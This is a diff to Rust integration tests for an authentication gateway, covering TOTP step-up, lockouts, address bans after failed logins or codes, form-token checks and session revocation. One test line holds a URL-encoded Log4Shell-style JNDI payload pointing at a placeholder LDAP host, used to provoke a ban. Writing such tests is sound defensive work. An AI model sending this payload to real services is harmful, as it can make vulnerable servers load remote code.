@@ -1,15 +1,16 @@
 //! Second factors over the real pages: added, asked for, used once, locked, and kept over a restart.
 
 use std::collections::BTreeMap;
-use std::net::{Ipv4Addr, SocketAddr};
+use std::io::Write as _;
+use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener};
 
 use aws_lc_rs::hmac;
 use data_encoding::BASE32_NOPAD;
 use portcullis_testkit::browser::in_browser;
 use portcullis_testkit::ports::free_port;
 use portcullis_testkit::upstream::Upstream;
-use portcullis_testkit::wait::PATIENCE;
-use portcullis_testkit::wire::{self, Answer};
+use portcullis_testkit::wait::{self, PATIENCE};
+use portcullis_testkit::wire::{self, Answer, Conn};
 use serde_json::{Value, json};
 
 use crate::harness::{Gateway, NO_BANS, Site, of_kind, portcullis};
@@ -43,6 +44,10 @@ fn start(upstream: &Upstream, host: &str) -> Gateway {
 }
 
 fn start_with(upstream: &Upstream, host: &str, bans: &str) -> Gateway {
+    site(upstream, host, bans).start()
+}
+
+fn site(upstream: &Upstream, host: &str, bans: &str) -> Site {
     let address = SocketAddr::from((Ipv4Addr::LOCALHOST, free_port()));
     let mut site = Site::new(&upstream.url());
     site.listen_on(address);
@@ -59,12 +64,13 @@ fn start_with(upstream: &Upstream, host: &str, bans: &str) -> Gateway {
     let file = site.path("users.toml");
     let added = portcullis().args(["user", "add", "alice", "--file"]).arg(file).stdin("correct horse\n").run(PATIENCE);
     assert!(added.status.success(), "{:?}", added.stderr);
-    site.start()
+    site
 }
 
 /// As much of a browser as the pages need: cookies, redirects, forms.
 struct Browser {
     address: SocketAddr,
+    from: IpAddr,
     cookies: BTreeMap<String, String>,
 }
 
@@ -90,7 +96,17 @@ fn encoded(text: &str) -> String {
 
 impl Browser {
     fn new(gateway: &Gateway) -> Self {
-        Self { address: gateway.address, cookies: BTreeMap::new() }
+        Self::at(gateway, "127.0.0.1")
+    }
+
+    /// One on a machine of this address.
+    fn at(gateway: &Gateway, from: &str) -> Self {
+        Self { address: gateway.address, from: from.parse().unwrap(), cookies: BTreeMap::new() }
+    }
+
+    /// Whether it has a session.
+    fn is_in(&self) -> bool {
+        self.cookies.keys().any(|name| name.contains("session"))
     }
 
     fn once(&mut self, method: &str, place: &str, body: &str) -> Answer {
@@ -103,7 +119,9 @@ impl Browser {
         if method == "POST" {
             headers.push(("content-type", "application/x-www-form-urlencoded"));
         }
-        let answer = wire::send(self.address, wire::request(method, place, &headers, body.as_bytes()));
+        let mut connection = Conn::open_from(self.from, self.address);
+        connection.send(wire::request(method, place, &headers, body.as_bytes()));
+        let answer = connection.answer();
         for line in answer.head.header_values("set-cookie") {
             let (name, value) = line.split(';').next().unwrap().split_once('=').unwrap();
             if value.is_empty() {
@@ -150,12 +168,16 @@ impl Browser {
 
     /// Logs in as Alice on the page that it was led to.
     fn log_in(&mut self, page: &Shown) -> Shown {
-        self.submit(page, "name=\"password\"", &[("name", "alice"), ("password", "correct horse")])
+        self.type_in(page, "alice", "correct horse")
+    }
+
+    fn type_in(&mut self, page: &Shown, name: &str, password: &str) -> Shown {
+        self.submit(page, "name=\"password\"", &[("name", name), ("password", password)])
     }
 }
 
 /// The code that an app with this secret shows so many steps from now.
-fn code(secret: &str, steps: i64) -> String {
+pub(crate) fn code(secret: &str, steps: i64) -> String {
     let secret = BASE32_NOPAD.decode(secret.replace(' ', "").as_bytes()).unwrap();
     let step = jiff::Timestamp::now().as_second() / 30 + steps;
     let mac = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA1_FOR_LEGACY_USE_ONLY, &secret), &step.to_be_bytes());
@@ -186,7 +208,7 @@ fn a_session_is_raised_by_a_code_and_goes_back_to_where_it_was() {
     let page = browser.go("/secret/plans?year=2026");
     assert!(page.place.starts_with("/.portcullis/login"), "{}", page.place);
     let refused = browser.submit(&page, "name=\"password\"", &[("name", "alice"), ("password", "wrong horse")]);
-    assert!(refused.answer.status() >= 400 && browser.cookies.is_empty(), "{}", refused.html());
+    assert!(refused.answer.status() >= 400 && !browser.is_in(), "{}", refused.html());
     // Nobody is led to another host.
     let page = browser.log_in(&page);
     assert!(page.place.starts_with("/.portcullis/step-up?return="), "{}", page.place);
@@ -206,7 +228,7 @@ fn a_session_is_raised_by_a_code_and_goes_back_to_where_it_was() {
     let shown = browser.submit(&wrong, "name=\"code\"", &[("code", &used)]);
     assert_eq!((shown.place.as_str(), shown.answer.status()), ("/secret/plans?year=2026", 200));
     assert_ne!(browser.cookies, before, "the session has another id");
-    let mut old = Browser { address: gateway.address, cookies: before };
+    let mut old = Browser { cookies: before, ..Browser::new(&gateway) };
     assert!(old.go("/secret/plans").place.starts_with("/.portcullis/login"), "the old id opens nothing");
     // A code is good once, also for another session of its owner.
     let mut other = Browser::new(&gateway);
@@ -236,7 +258,7 @@ fn a_credential_that_nobody_looks_at_opens_no_page_under_a_ban() {
     let mut browser = Browser::new(&gateway);
     let page = browser.go("/any");
     assert_eq!(browser.log_in(&page).answer.status(), 200);
-    let cookie = format!("{}=x", browser.cookies.keys().next().unwrap());
+    let cookie = "portcullis-session=x".to_owned();
     let junk = [("cookie", cookie.as_str()), ("accept", "application/json")];
     assert_eq!(gateway.get_from("127.0.0.91", "/.portcullis/login", &junk).status(), 200, "there is no ban yet");
     let exploit = "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fx%7D";
@@ -304,9 +326,11 @@ fn what_others_send_and_what_is_not_fresh_changes_nothing() {
     for _ in 0..5 {
         assert_eq!(thief.submit(&page, "name=\"code\"", &[("code", "000000")]).answer.status(), 403);
     }
-    let locked = thief.submit(&page, "name=\"code\"", &[("code", &recovery[1])]);
-    assert_eq!(locked.answer.status(), 429, "{}", locked.html());
-    assert!(locked.answer.header("retry-after").is_some());
+    for _ in 0..3 {
+        let locked = thief.submit(&page, "name=\"code\"", &[("code", &recovery[1])]);
+        assert_eq!(locked.answer.status(), 429, "{}", locked.html());
+        assert!(locked.answer.header("retry-after").is_some());
+    }
     let listed = gateway.site.run(&["factor", "list", "alice", "-o", "json"]);
     let listed: Value = serde_json::from_str(&listed.stdout.join("\n")).unwrap();
     assert_eq!(listed["factors"][1]["left"], json!(10));
@@ -315,8 +339,183 @@ fn what_others_send_and_what_is_not_fresh_changes_nothing() {
     let none = gateway.site.run(&["factor", "list", "alice"]);
     assert_eq!(none.status.code(), Some(1), "{none:?}");
     let events = gateway.stop();
-    assert_eq!(of_kind(&events, "auth.locked").len(), 1);
+    // That it is locked is said once, by the attempt that locked it; each attempt is an event.
+    let locked = of_kind(&events, "auth.locked");
+    assert_eq!((locked.len(), of_kind(&events, "auth.failed").len()), (1, 4 + 3));
+    assert!(locked[0]["message"].as_str().unwrap().contains("the last of too many"), "{:#}", locked[0]);
     assert_eq!(of_kind(&events, "admin.factor_reset").len(), 1);
+}
+
+/// Five at once, and nothing is forgotten while the test runs.
+const CREDENTIAL_BANS: &str = "\n[ban]\nfirst = \"1h\"\ncredentials = { level = 5, half = \"1h\" }\n";
+
+#[test]
+fn failures_at_the_form_count_towards_a_ban_as_those_of_requests_do() {
+    let upstream = Upstream::start();
+    let gateway = start_with(&upstream, "localhost", CREDENTIAL_BANS);
+    // From where nobody was ever let in, the whole address is banned, its pages too.
+    let mut guesser = Browser::at(&gateway, "127.0.0.92");
+    let mut tried = 0;
+    let banned = loop {
+        let page = guesser.go("/.portcullis/login");
+        if page.answer.status() == 403 || tried > 10 {
+            break page;
+        }
+        tried += 1;
+        guesser.type_in(&page, &format!("user-{tried}"), "wrong horse");
+    };
+    assert!((5..=6).contains(&tried), "{tried} were looked at");
+    let event = gateway.events.wait_for_request(banned.answer.header("x-request-id").unwrap());
+    assert_eq!(event["reason"], "ban.active", "{event:#}");
+    let created =
+        wait::until(PATIENCE, || of_kind(&gateway.events.all(), "ban.created").first().map(|one| (*one).clone()));
+    let created = created.expect("the ban is an event");
+    assert_eq!(created["client"]["ip"], "127.0.0.92", "{created:#}");
+    assert_eq!(event["ban"]["active"], true, "{event:#}");
+    assert!(!created.to_string().contains("wrong horse"), "{created:#}");
+    // Behind a shared address there are people who have logged in: none of them is hit, and whoever has not yet can.
+    let mut alice = Browser::at(&gateway, "127.0.0.93");
+    let page = alice.go("/any");
+    assert_eq!(alice.log_in(&page).answer.status(), 200);
+    let mut guesser = Browser::at(&gateway, "127.0.0.93");
+    for number in 0..7 {
+        let page = guesser.go("/.portcullis/login");
+        assert_eq!(page.answer.status(), 200, "{number}: {}", page.html());
+        guesser.type_in(&page, &format!("other-{number}"), "wrong horse");
+    }
+    let second = || (of_kind(&gateway.events.all(), "ban.created").len() == 2).then_some(());
+    wait::until(PATIENCE, second).expect("the address is banned");
+    assert_eq!(alice.go("/any").answer.status(), 200);
+    let mut late = Browser::at(&gateway, "127.0.0.93");
+    let page = late.go("/.portcullis/login?to=/any");
+    assert_eq!(late.log_in(&page).answer.status(), 200);
+    let outside = gateway.get_from("127.0.0.93", "/any", &[("accept", "application/json")]);
+    gateway.check_refused("without a session", &outside, 403, "ban.active");
+}
+
+#[test]
+fn wrong_codes_count_for_the_address_and_not_for_whoever_they_are_tried_for() {
+    let upstream = Upstream::start();
+    let gateway = start_with(&upstream, "localhost", CREDENTIAL_BANS);
+    let mut alice = Browser::new(&gateway);
+    let page = alice.go("/any");
+    alice.log_in(&page);
+    let (secret, _) = enrol(&mut alice);
+    // Somebody has her password, and guesses at the second factor from where nobody else is.
+    let mut thief = Browser::at(&gateway, "127.0.0.94");
+    let page = thief.go("/.portcullis/login?to=/.portcullis/step-up");
+    let page = thief.log_in(&page);
+    for _ in 0..6 {
+        thief.submit(&page, "name=\"code\"", &[("code", "000000")]);
+    }
+    let created =
+        wait::until(PATIENCE, || of_kind(&gateway.events.all(), "ban.created").first().map(|one| (*one).clone()));
+    let created = created.expect("the ban is an event");
+    assert_eq!(created["client"]["ip"], "127.0.0.94", "{created:#}");
+    assert!(gateway.site.run(&["ban", "explain", "--user", "alice"]).status.code() == Some(1), "she is not banned");
+    // She waits as anybody does whose codes were wrong; her session goes on.
+    assert_eq!(alice.go("/any").answer.status(), 200);
+    let reset = gateway.site.run(&["totp", "reset", "alice"]);
+    assert_eq!(reset.status.code(), Some(0), "{reset:?}");
+    assert!(!secret.is_empty());
+}
+
+#[test]
+fn nobody_is_logged_in_by_the_form_of_another_browser() {
+    let upstream = Upstream::start();
+    let gateway = start(&upstream, "localhost");
+    let fields = "name=alice&password=correct+horse&to=/";
+    let mut victim = Browser::new(&gateway);
+    // Without a page of its own, and with the token of another browser's.
+    let sent = victim.once("POST", "/.portcullis/login", fields);
+    assert_eq!((sent.status(), victim.is_in()), (403, false), "{}", sent.text());
+    let mut other = Browser::new(&gateway);
+    let page = other.go("/.portcullis/login");
+    let token = between(page.html(), "name=\"token\" value=\"", "\"").unwrap().to_owned();
+    let with_token = format!("{fields}&token={token}");
+    let sent = victim.once("POST", "/.portcullis/login", &with_token);
+    assert_eq!((sent.status(), victim.is_in()), (403, false));
+    victim.go("/.portcullis/login");
+    let sent = victim.once("POST", "/.portcullis/login", &with_token);
+    let event = gateway.events.wait_for_request(sent.header("x-request-id").unwrap());
+    assert_eq!((sent.status(), &event["reason"]), (403, &"request.malformed".into()));
+    assert!(!event.to_string().contains("correct horse"), "{event:#}");
+    // Its own is good, and is over with the login.
+    let sent = other.once("POST", "/.portcullis/login", &with_token);
+    assert_eq!((sent.status(), other.is_in()), (302, true));
+    assert!(other.cookies.keys().all(|name| !name.contains("form")), "{:?}", other.cookies);
+    let sent = other.once("POST", "/.portcullis/login", &with_token);
+    assert_eq!(sent.status(), 403);
+    // Where browsers have a login, none is asked for a password by itself.
+    let asked = |headers: &[(&str, &str)]| {
+        let refused = gateway.get("/any", headers);
+        refused.head.header_values("www-authenticate").iter().any(|line| line.contains("Basic"))
+    };
+    assert!(!asked(&[("sec-fetch-mode", "cors")]), "a script in a page");
+    assert!(asked(&[]), "a program");
+}
+
+#[test]
+fn what_is_open_outlives_a_step_up_and_not_its_session() {
+    let peer = TcpListener::bind("127.0.0.1:0").unwrap();
+    let upstream = Upstream::start();
+    let mut site = site(&upstream, "localhost", NO_BANS);
+    site.add("[limits]\nrecheck = \"1s\"\n");
+    site.add(&format!("[[upstream]]\nname = \"peer\"\nendpoints = [\"http://{}\"]\n", peer.local_addr().unwrap()));
+    site.add("[[route]]\nname = \"socket\"\nupstream = \"peer\"\npaths = [\"/socket\"]\nupgrades = [\"websocket\"]\n");
+    let gateway = site.start();
+    let mut alice = Browser::new(&gateway);
+    let page = alice.go("/any");
+    alice.log_in(&page);
+    let (secret, _) = enrol(&mut alice);
+    let mut tunnel = gateway.conn();
+    let cookie = cookies(&alice);
+    let headers = [
+        ("connection", "upgrade"),
+        ("upgrade", "websocket"),
+        ("sec-websocket-version", "13"),
+        ("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ=="),
+        ("cookie", cookie.as_str()),
+    ];
+    tunnel.send(wire::request("GET", "/socket", &headers, b""));
+    let (mut behind, _) = peer.accept().unwrap();
+    let switched = "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
+                    Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n";
+    behind.write_all(switched.as_bytes()).unwrap();
+    assert_eq!(tunnel.try_head().unwrap().status, 101);
+    let page = alice.go("/secret/plans");
+    let shown = alice.submit(&page, "name=\"code\"", &[("code", &code(&secret, 0))]);
+    assert_eq!((shown.place.as_str(), shown.answer.status()), ("/secret/plans", 200));
+    assert_ne!(cookies(&alice), cookie);
+    // Had it gone by the old id, it would have ended, or would end now, as that of a session that is over.
+    let revoked = gateway.site.run(&["session", "revoke", "--user", "alice"]);
+    assert!(revoked.stdout.concat().contains("1 session of user:alice ended"), "{revoked:?}");
+    assert!(tunnel.closed_within(PATIENCE));
+    let ended = wait::until(PATIENCE, || {
+        gateway.events.all().into_iter().find(|event| event["reason"] == "session.terminated")
+    });
+    let ended = ended.expect("the end is an event");
+    assert_eq!(ended["reasons"][1], "authn.revoked", "{ended:#}");
+}
+
+#[test]
+fn second_factors_are_turned_on_by_a_restart_and_nobody_is_led_to_a_page_before() {
+    let upstream = Upstream::start();
+    let mut site = site(&upstream, "localhost", NO_BANS);
+    let config = site.path("portcullis.toml");
+    let own = std::fs::read_to_string(site.write()).unwrap();
+    let (before, _) = own.split_once("[mfa]").unwrap();
+    site.replace_config(before);
+    let mut gateway = site.start();
+    let mut alice = Browser::new(&gateway);
+    let page = alice.go("/secret/plans");
+    let page = alice.log_in(&page);
+    assert_eq!((page.place.as_str(), page.answer.status()), ("/secret/plans", 401), "{}", page.html());
+    std::fs::write(&config, &own).unwrap();
+    gateway.reload("ok");
+    let page = alice.go("/secret/plans");
+    assert_eq!((page.place.as_str(), page.answer.status()), ("/secret/plans", 401), "{}", page.html());
+    gateway.process.wait_for_line("[mfa] enabled");
 }
 
 const PERSON: &str = r#"
